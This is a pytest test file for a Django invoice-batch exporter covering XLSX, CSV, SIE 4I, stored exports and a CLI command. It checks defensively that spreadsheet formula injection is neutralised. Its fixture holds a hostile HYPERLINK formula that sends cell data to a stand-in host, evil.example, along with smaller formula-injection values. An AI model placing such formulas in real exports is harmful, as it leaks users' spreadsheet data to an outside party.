"""The exports of an approved batch: XLSX, CSV for Swedish Excel, SIE 4I; storing and serving the same bytes;
the export_invoice_batch command; queries that do not grow with the number of invoices."""

import csv
import hashlib
import io
import re
import zipfile
from datetime import datetime
from decimal import Decimal

import pytest
from django.core.exceptions import ValidationError
from django.core.management import CommandError, call_command
from django.db import connection
from django.test.utils import CaptureQueriesContext
from openpyxl import load_workbook

from billing.exports import FORMATS, export_all, export_batch, export_bytes, render
from billing.models import BatchExport, InvoiceBatch
from tests.billing.export_fixtures import (
    FEE_25,
    FEE_EXEMPT,
    approved_batch,
    billing_organizer,
    credit_note,
    export_storage,  # noqa: F401 (a fixture)
    issued_invoice,
    meeting_line,
    member,
    organizer_accounts,
)

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("export_storage")]

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1;"Klicka")'
CREDITED_12000 = {"description": "Deltagaravgift", "unit_price": Decimal("12000.00")}


@pytest.fixture
def batch():
    """An invoice (a 25 % fee and meeting costs), an invoice to a municipality with a formula for a name
    and an exempt line, and a credit note of 12 000 kr + 25 % = 15 000 kr."""
    batch = approved_batch(organizer=billing_organizer(name="Förbundet Åäö Kommuner"))
    väsby = member(batch, "0114")
    issued_invoice(batch, lines=[FEE_25, meeting_line(väsby.network)], membership=väsby)
    issued_invoice(
        batch,
        lines=[FEE_25, FEE_EXEMPT],
        membership=member(batch, "0115"),
        buyer_name=HOSTILE_NAME,
        buyer_reference="+46 8 123 45",
    )
    credited = issued_invoice(batch, lines=[CREDITED_12000], membership=member(batch, "0117"))
    credit_note(credited, buyer_reference="@SUM(A1)")
    return batch


# --- XLSX ---------------------------------------------------------------------------------------------------


def test_xlsx_has_an_invoice_sheet_and_a_line_sheet_with_numbers_dates_and_negative_credits(batch):
    name, content = render(batch, "xlsx")
    assert name == f"fakturor-{batch.organizer.slug}-{batch.pk}.xlsx"
    workbook = load_workbook(io.BytesIO(content))
    assert workbook.sheetnames == ["Fakturor", "Rader"]

    invoices = list(workbook["Fakturor"].iter_rows(values_only=True))
    header, rows = invoices[0], invoices[1:]
    assert header[:5] == ("Fakturanummer", "Typ", "Krediterar faktura", "Fakturadatum", "Förfallodatum")
    by_number = {row[0]: dict(zip(header, row, strict=True)) for row in rows}
    numbers = list(batch.invoices.order_by("sequence").values_list("number", flat=True))
    assert list(by_number) == numbers

    first = by_number[numbers[0]]
    assert first["Typ"] == "Faktura"
    assert first["Fakturadatum"] == datetime(2026, 1, 15)
    assert first["Belopp exkl. moms"] == 25900 and isinstance(first["Belopp exkl. moms"], (int, float))
    assert first["Moms"] == 6475 and first["Belopp inkl. moms"] == 32375
    assert first["Kund"] == "Upplands Väsby" and first["Invånare"] == 15432

    hostile = by_number[numbers[1]]
    assert hostile["Kund"] == HOSTILE_NAME  # kept as text, exactly
    cell = next(c for c in workbook["Fakturor"]["G"] if c.value == HOSTILE_NAME)
    assert cell.data_type == "s"

    credit = by_number[numbers[3]]
    assert credit["Typ"] == "Kreditfaktura" and credit["Krediterar faktura"] == numbers[2]
    assert (credit["Belopp exkl. moms"], credit["Moms"], credit["Belopp inkl. moms"]) == (-12000, -3000, -15000)

    lines = list(workbook["Rader"].iter_rows(values_only=True))
    line_header = lines[0]
    line_rows = [dict(zip(line_header, row, strict=True)) for row in lines[1:]]
    assert len(line_rows) == 6
    meeting = next(row for row in line_rows if row["Beskrivning"].startswith("Lunch"))
    assert (meeting["Antal"], meeting["À-pris exkl. moms"], meeting["Belopp exkl. moms"]) == (2, 450, 900)
    assert meeting["Konto"] == "3020"
    exempt = next(row for row in line_rows if row["Momskategori"] == "E")
    assert exempt["Momssats %"] == 0 and exempt["Skäl till momsbefrielse"]
    credited = line_rows[-1]
    assert credited["Fakturanummer"] == numbers[3]
    assert (credited["Antal"], credited["À-pris exkl. moms"], credited["Belopp exkl. moms"]) == (-1, 12000, -12000)


# --- CSV ----------------------------------------------------------------------------------------------------


def test_csv_is_for_swedish_excel_with_formulas_neutralised_and_numbers_intact(batch):
    name, content = render(batch, "csv")
    assert name.endswith(".csv")
    assert content.startswith(b"\xef\xbb\xbf")
    decoded = content[3:].decode("utf-8")
    assert decoded.count("\r\n") == 5 and "\n" not in decoded.replace("\r\n", "")
    rows = list(csv.reader(io.StringIO(decoded, newline=""), delimiter=";"))
    header, data = rows[0], [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
    assert header[0] == "Fakturanummer" and "Belopp inkl. moms" in header
    first, hostile, _credited, credit = data

    assert first["Belopp exkl. moms"] == "25900,00" and first["Moms"] == "6475,00"
    assert first["Belopp inkl. moms"] == "32375,00" and first["Fakturadatum"] == "2026-01-15"
    assert hostile["Kund"] == "'" + HOSTILE_NAME
    assert hostile["Kundens referens"] == "'+46 8 123 45"
    assert credit["Kundens referens"] == "'@SUM(A1)"
    # Numbers are never touched: a credit is negative, with a decimal comma, and no apostrophe.
    assert (credit["Belopp exkl. moms"], credit["Moms"], credit["Belopp inkl. moms"]) == (
        "-12000,00",
        "-3000,00",
        "-15000,00",
    )
    for row in data:
        for column in ("Belopp exkl. moms", "Moms", "Belopp inkl. moms"):
            assert re.fullmatch(r"-?\d+,\d\d", row[column])


# --- SIE ----------------------------------------------------------------------------------------------------


def parse_sie(content: bytes) -> tuple[list[str], list[tuple[str, list[tuple[str, Decimal]]]]]:
    """The header records and the vouchers (text, [(account, amount)]) of a SIE file."""
    lines = content.decode("cp437").split("\r\n")
    head, vouchers, current = [], [], None
    for line in lines:
        if line.startswith("#VER"):
            current = (line, [])
            vouchers.append(current)
        elif line.startswith("#TRANS"):
            _tag, account, _objects, amount, *_rest = line.split(" ")
            current[1].append((account, Decimal(amount)))
        elif line in ("{", "}", ""):
            continue
        else:
            assert current is None, f"{line} after the vouchers"
            head.append(line)
    return head, vouchers


def test_sie_4i_has_one_balanced_voucher_per_invoice_on_the_organisers_accounts(batch):
    organizer_accounts(
        batch.organizer,
        receivables_account="1511",
        revenue_account="3011",
        meeting_revenue_account="3021",
        vat_accounts={"25": "2612"},
    )
    name, content = render(batch, "sie")
    assert name.endswith(".si")
    head, vouchers = parse_sie(content)
    assert head[:3] == ["#FLAGGA 0", head[1], "#FORMAT PC8"] and head[1].startswith("#PROGRAM ")
    assert re.fullmatch(r"#GEN \d{8}", head[3]) and head[4] == "#SIETYP 4"
    assert f"#ORGNR {batch.organizer.organisation_number[:6]}-{batch.organizer.organisation_number[6:]}" in head
    assert '#FNAMN "Förbundet Åäö Kommuner"' in head
    assert {line.split(" ")[1] for line in head if line.startswith("#KONTO")} == {"1511", "3011", "3021", "2612"}

    assert len(vouchers) == batch.invoices.count() == 4
    for _text, rows in vouchers:
        assert sum(amount for _account, amount in rows) == 0
    first = dict(vouchers[0][1])
    assert first == {
        "1511": Decimal("32375.00"),
        "3011": Decimal("-25000.00"),
        "3021": Decimal("-900.00"),
        "2612": Decimal("-6475.00"),
    }
    assert dict(vouchers[1][1]) == {
        "1511": Decimal("41250.00"),
        "3011": Decimal("-35000.00"),
        "2612": Decimal("-6250.00"),
    }
    credit_text, credit_rows = vouchers[3]
    assert credit_text.startswith('#VER "" "" 20260115 "Kreditfaktura ')
    assert dict(credit_rows) == {"1511": Decimal("-15000.00"), "3011": Decimal("12000.00"), "2612": Decimal("3000.00")}


def test_sie_is_cp437_with_quoted_escaped_text(batch):
    invoice = issued_invoice(batch, membership=member(batch, "0120"), buyer_name='Kommun "Citat" – Väsby €')
    _name, content = render(batch, "sie")
    assert "Förbundet Åäö".encode("cp437") in content and b"\x94" in content and b"\x8f" in content
    assert "Förbundet".encode() not in content  # not UTF-8
    assert b'"Faktura ' + invoice.number.encode() + b' Kommun \\"Citat\\" - V\x84sby ?"' in content


def test_sie_uses_the_default_vat_accounts_by_rate_and_refuses_a_bad_account(batch):
    issued_invoice(
        batch,
        lines=[{"description": "Material", "unit_price": Decimal("100.00"), "vat_rate": Decimal("12")}],
        membership=member(batch, "0120"),
    )
    _head, vouchers = parse_sie(render(batch, "sie")[1])
    assert dict(vouchers[-1][1]) == {"1510": Decimal("112.00"), "3010": Decimal("-100.00"), "2621": Decimal("-12.00")}
    assert dict(vouchers[0][1])["2611"] == Decimal("-6475.00")

    organizer_accounts(batch.organizer, revenue_account="30 10")
    with pytest.raises(ValidationError):
        render(batch, "sie")


# --- Storing and serving ------------------------------------------------------------------------------------


def test_the_first_export_is_stored_and_later_ones_serve_the_same_bytes(batch):
    storage = BatchExport._meta.get_field("file").storage
    user = batch.created_by
    first = export_batch(batch, "xlsx", actor=user)
    stored = export_bytes(first)
    assert first.file_name == f"fakturor-{batch.organizer.slug}-{batch.pk}.xlsx"
    assert first.sha256 == hashlib.sha256(stored).hexdigest() and first.size == len(stored)
    assert first.created_by == user
    assert storage.exists(first.file.name) and first.file.name.startswith(f"invoice-batches/{batch.pk}/")

    again = export_batch(batch, "xlsx")
    assert again.pk == first.pk and export_bytes(again) == stored
    assert BatchExport.objects.filter(batch=batch).count() == 1


def test_every_format_but_pdf_is_exported_and_stored(batch):
    for fmt in ("xlsx", "csv", "sie", "peppol"):
        export = export_batch(batch, fmt)
        assert export.format == fmt and export.file_name.endswith(FORMATS[fmt].suffix)
        assert export_bytes(export) == export_batch(batch, fmt).file.open("rb").read()
    assert BatchExport.objects.filter(batch=batch).count() == 4


def test_a_pdf_export_is_a_zip_of_one_pdf_per_invoice():
    pytest.importorskip("billing.pdf", reason="billing.pdf (the invoice PDFs) is made by another part")
    batch = approved_batch()
    invoice = issued_invoice(batch)
    note = credit_note(invoice)
    export = export_batch(batch, "pdf")
    with zipfile.ZipFile(io.BytesIO(export_bytes(export))) as archive:
        assert sorted(archive.namelist()) == sorted([f"{invoice.number}.pdf", f"{note.number}.pdf"])
        assert archive.read(f"{invoice.number}.pdf").startswith(b"%PDF")
    assert export.file_name.endswith("-pdf.zip")


def test_an_altered_stored_file_is_not_served(batch):
    export = export_batch(batch, "csv")
    with open(BatchExport._meta.get_field("file").storage.path(export.file.name), "ab") as handle:
        handle.write(b"x")
    with pytest.raises(ValidationError):
        export_bytes(export)


def test_a_draft_batch_or_an_unknown_format_is_refused():
    draft = approved_batch(status=InvoiceBatch.Status.DRAFT)
    with pytest.raises(ValidationError) as refused:
        export_batch(draft, "csv")
    assert refused.value.code == "batch_not_approved"
    with pytest.raises(ValidationError):
        export_batch(approved_batch(), "docx")
    assert not BatchExport.objects.exists()


def test_drafts_in_a_batch_are_not_exported(batch):
    from tests.factories import InvoiceFactory

    InvoiceFactory(batch=batch, membership=batch.invoices.first().membership)
    _head, vouchers = parse_sie(render(batch, "sie")[1])
    assert len(vouchers) == 4


def test_a_sent_batch_is_exported():
    batch = approved_batch(status=InvoiceBatch.Status.SENT)
    issued_invoice(batch)
    assert export_batch(batch, "sie").size > 0


# --- Queries ------------------------------------------------------------------------------------------------


def test_the_queries_do_not_grow_with_the_number_of_invoices():
    def queries(count: int) -> int:
        batch = approved_batch()
        membership = member(batch)
        for _ in range(count):
            invoice = issued_invoice(
                batch, lines=[FEE_25, FEE_EXEMPT, meeting_line(membership.network)], membership=membership
            )
        credit_note(invoice)
        batch = InvoiceBatch.objects.get(pk=batch.pk)
        with CaptureQueriesContext(connection) as captured:
            for fmt in ("xlsx", "csv", "sie", "peppol"):
                render(batch, fmt)
        return len(captured)

    one, five = queries(1), queries(5)
    assert one == five
    assert five <= 4 * 3 + 1  # per format: invoices, their lines, the organiser's accounts (+ the organiser once)


# --- The command --------------------------------------------------------------------------------------------


def test_the_command_writes_the_stored_export(batch, tmp_path):
    target = tmp_path / "ut.si"
    out = io.StringIO()
    call_command("export_invoice_batch", str(batch.pk), "--format", "sie", "--output", str(target), stdout=out)
    export = BatchExport.objects.get(batch=batch, format="sie")
    assert target.read_bytes() == export_bytes(export)
    assert export.sha256 in out.getvalue()

    # Again, into a folder: the same bytes, under the export's own name.
    call_command("export_invoice_batch", str(batch.pk), "--format", "sie", "--output", str(tmp_path), stdout=out)
    assert (tmp_path / export.file_name).read_bytes() == target.read_bytes()
    assert BatchExport.objects.filter(batch=batch).count() == 1


def test_the_command_refuses_a_draft_an_unknown_batch_a_bad_format_and_a_missing_folder(batch, tmp_path):
    draft = approved_batch(status=InvoiceBatch.Status.DRAFT)
    with pytest.raises(CommandError, match=r"(?i)approv|godk"):
        call_command("export_invoice_batch", str(draft.pk), "--format", "csv", "--output", str(tmp_path / "a"))
    with pytest.raises(CommandError, match="no invoice batch with id 999999"):
        call_command("export_invoice_batch", "999999", "--format", "csv", "--output", str(tmp_path / "a"))
    with pytest.raises(CommandError, match="invalid choice"):
        call_command("export_invoice_batch", str(batch.pk), "--format", "docx", "--output", str(tmp_path / "a"))
    with pytest.raises(CommandError, match="does not exist"):
        call_command(
            "export_invoice_batch", str(batch.pk), "--format", "csv", "--output", str(tmp_path / "nej" / "a.csv")
        )
    assert not (tmp_path / "a").exists()


def test_export_all_loads_once_and_stores_each_format_once(batch):
    stored_csv = export_batch(batch, "csv")
    with CaptureQueriesContext(connection) as captured:
        exports = export_all(batch)
    assert set(exports) == {"xlsx", "csv", "sie", "peppol"}
    assert exports["csv"].pk == stored_csv.pk
    assert sum("billing_invoiceline" in query["sql"] for query in captured) == 1
    assert export_all(batch)["sie"].pk == exports["sie"].pk
    assert BatchExport.objects.filter(batch=batch).count() == 4
